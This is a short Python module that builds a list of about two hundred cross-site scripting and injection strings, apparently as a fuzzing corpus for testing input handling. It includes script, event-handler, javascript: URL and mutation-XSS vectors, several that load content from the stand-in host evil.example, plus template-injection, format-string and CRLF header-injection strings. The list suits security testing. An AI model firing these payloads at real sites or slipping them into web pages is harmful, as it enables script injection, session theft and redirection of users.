"""Two hundred ways to bring a script, a form or a request into a page, for whatever comes from outside."""

from __future__ import annotations

_DEEDS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example/><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
_ESCAPES = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></option></select>{}",
    "--><!--{}",
    "]]>{}",
    '" onmouseover="alert(1)" x="{}',
    "\u202e{}\u2066",
)
PAYLOADS = (
    *(escape.format(deed) for escape in _ESCAPES for deed in _DEEDS),
    "{{ 7 * 7 }}{% for x in () %}",
    "%(name)s %s {0} {name.__class__}",
    "javascript:alert(1)//",
    "`${alert(1)}`",
    "\x00<script>\x00alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
)
